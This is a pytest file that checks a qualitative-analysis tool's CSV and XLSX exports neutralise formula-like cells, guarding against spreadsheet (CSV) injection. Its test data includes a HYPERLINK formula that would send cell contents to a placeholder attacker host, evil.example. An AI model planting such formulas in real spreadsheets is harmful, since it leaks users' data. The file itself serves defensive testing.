"""Safe spreadsheets: no cell of a CSV or XLSX export is ever a formula (OWASP), numbers
stay numbers, and every export reads back through gioia's own import as it was."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from gioia import Project
from gioia.importers.manifest import TranscriptMeta
from gioia.spreadsheet import neutralise, restore

from .conftest import as_lead, run

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
INTERVIEW = (
    "Interviewer: What did the buyer write?\n\n"
    f"Anna: {LINK} was in the message, and +39 055 1234 too.\n\n"
    "Interviewer: And then?\n\n"
    "Anna: -5% on every order, they said.\n"
)
NAMES = {"concept": "=SUM(1,2)", "theme": "+Growth", "dimension": "@Home"}


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+39 055", "'+39 055"),
        ("-5%", "'-5%"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("'=already", "''=already"),
        ("'quoted", "'quoted"),
        ("plain", "plain"),
        ("-0.125", "-0.125"),  # a number stays a number
        ("-1+1", "'-1+1"),
        ("", ""),
    ],
)
def test_cells_that_look_like_formulas_are_neutralised(text: str, written: str) -> None:
    assert neutralise(text) == written
    assert restore(written) == text


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_every_text_comes_back(text: str) -> None:
    assert restore(neutralise(text)) == text
    written = neutralise(text)
    number = re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?", text)
    assert number or not written.startswith(("=", "+", "-", "@", "\t", "\r"))


def _hostile(project: Project, folder: Path) -> None:
    path = folder / "hostile.txt"
    path.write_text(INTERVIEW, encoding="utf-8")
    as_lead(project).import_file(
        path, TranscriptMeta(case="-Case", attributes={"case.size": "=2+2"})
    )
    project.add_item("concept", NAMES["concept"])
    as_lead(project).assign([NAMES["concept"]], theme=NAMES["theme"], create=True)
    as_lead(project).assign([NAMES["theme"]], dimension=NAMES["dimension"], create=True)
    project.tag(["hostile:2"], NAMES["concept"], quote=f"{LINK} was in the message")
    project.tag(["hostile:4"], NAMES["concept"])


def _rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def test_csv_exports_hold_no_formula(project: Project, tmp_path: Path) -> None:
    _hostile(project, tmp_path)
    project.write_quotes(tmp_path / "quotes.csv")
    project.write_codebook(tmp_path / "codebook.csv")
    project.write_cases(tmp_path / "cases.csv")
    project.export_structure(tmp_path / "structure.csv")
    project.export_codings(tmp_path / "codings.csv")
    quotes = _rows(tmp_path / "quotes.csv")
    assert quotes[1][:4] == ["'@Home", "'+Growth", "'=SUM(1,2)", f"'{LINK} was in the message"]
    assert _rows(tmp_path / "codebook.csv")[3][3] == "'=SUM(1,2)"
    cases = _rows(tmp_path / "cases.csv")
    assert cases[1][:2] == ["'-Case", "'=2+2"]
    assert _rows(tmp_path / "structure.csv")[1][:3] == ["'=SUM(1,2)", "'+Growth", "'@Home"]
    codings = _rows(tmp_path / "codings.csv")
    assert [row[2:4] for row in codings[1:]] == [
        ["'=SUM(1,2)", f"'{LINK} was in the message"],
        ["'=SUM(1,2)", ""],
    ]
    assert codings[2][8] == "'-5% on every order, they said."
    every_cell = [
        cell
        for name in ("quotes", "codebook", "cases", "structure", "codings")
        for row in _rows(tmp_path / f"{name}.csv")
        for cell in row
    ]
    assert not [c for c in every_cell if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_xlsx_exports_hold_strings_never_formulas(project: Project, tmp_path: Path) -> None:
    _hostile(project, tmp_path)
    for name, write in (
        ("codebook", project.write_codebook),
        ("structure", project.export_structure),
        ("codings", project.export_codings),
    ):
        write(tmp_path / f"{name}.xlsx")
        sheet = load_workbook(tmp_path / f"{name}.xlsx").worksheets[0]
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        looks = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
        assert looks and all(c.data_type == "s" and c.quotePrefix for c in looks)
    codebook = load_workbook(tmp_path / "codebook.xlsx").worksheets[0]
    counts = [row[5].value for row in codebook.iter_rows(min_row=2)]
    assert counts == [2, 2, 2]  # numbers stay numbers: codings per item


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_structure_and_codings_round_trip_through_import(
    project: Project, tmp_path: Path, suffix: str
) -> None:
    _hostile(project, tmp_path)
    structure_file = tmp_path / f"structure{suffix}"
    codings_file = tmp_path / f"codings{suffix}"
    project.export_structure(structure_file)
    project.export_codings(codings_file)
    fresh_store = tmp_path / "fresh.db"
    with Project.init(str(fresh_store)) as fresh:
        as_lead(fresh).import_file(tmp_path / "hostile.txt")
        as_lead(fresh).import_structure(structure_file)
        assert as_lead(fresh).import_codings(codings_file).added == 2
        view = fresh.structure()
        assert (
            view.dimensions[0].name,
            view.dimensions[0].themes[0].name,
            view.dimensions[0].themes[0].concepts[0].name,
        ) == (NAMES["dimension"], NAMES["theme"], NAMES["concept"])
        assert [(r.segment, r.concept, r.quote) for r in fresh.codings()] == [
            (r.segment, r.concept, r.quote) for r in project.codings()
        ]


def test_csv_on_standard_output_is_neutralised(
    runner: CliRunner, store: str, tmp_path: Path
) -> None:
    with Project.open(store, coder="Maria") as project:
        _hostile(project, tmp_path)
        project.coder = "Tom"
        project.tag(["hostile:2", "hostile:4"], NAMES["concept"])
    exported = run(runner, store, "codings", "export").output.splitlines()
    assert exported[1].startswith('Maria,hostile:2,"\'=SUM(1,2)",')
    agreement = list(csv.reader(run(runner, store, "agreement", "--csv").output.splitlines()))
    (code,) = [row for row in agreement if row[0] == "code"]
    assert code[1] == "'=SUM(1,2)"
    assert "1.000000" in code  # numbers as numbers


def test_analysis_exports_hold_no_formula(project: Project, tmp_path: Path) -> None:
    _hostile(project, tmp_path)
    project.tag(["hostile:2"], "@Pair", create=True)
    as_lead(project).assign(["@Pair"], theme=NAMES["theme"])
    project.write_matrix(tmp_path / "matrix.csv", project.matrix(level="concept"))
    project.write_cooccurrence(tmp_path / "pairs.csv", project.cooccurrence())
    project.write_saturation(tmp_path / "saturation.csv", project.saturation())
    # A text cell is guarded at its start only: a formula must begin the cell.
    assert _rows(tmp_path / "matrix.csv") == [
        ["case", "'@Pair", "'=SUM(1,2)"],
        ["'-Case", "1", "2"],
    ]
    assert _rows(tmp_path / "pairs.csv")[1] == ["'@Pair", "'=SUM(1,2)", "1", "0.5", "1.0"]
    assert _rows(tmp_path / "saturation.csv")[1] == [
        "1",
        "hostile",
        "'-Case",
        "",
        "2",
        "2",
        "'@Pair; =SUM(1,2)",
    ]
    for name, write, result in (
        ("matrix", project.write_matrix, project.matrix(level="concept")),
        ("pairs", project.write_cooccurrence, project.cooccurrence()),
    ):
        write(tmp_path / f"{name}.xlsx", result)  # type: ignore[operator]
        cells = [
            cell
            for sheet in load_workbook(tmp_path / f"{name}.xlsx").worksheets
            for row in sheet.iter_rows()
            for cell in row
        ]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        looks = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
        assert looks and all(c.data_type == "s" and c.quotePrefix for c in looks)
        assert any(c.data_type == "n" for c in cells)  # counts stay numbers
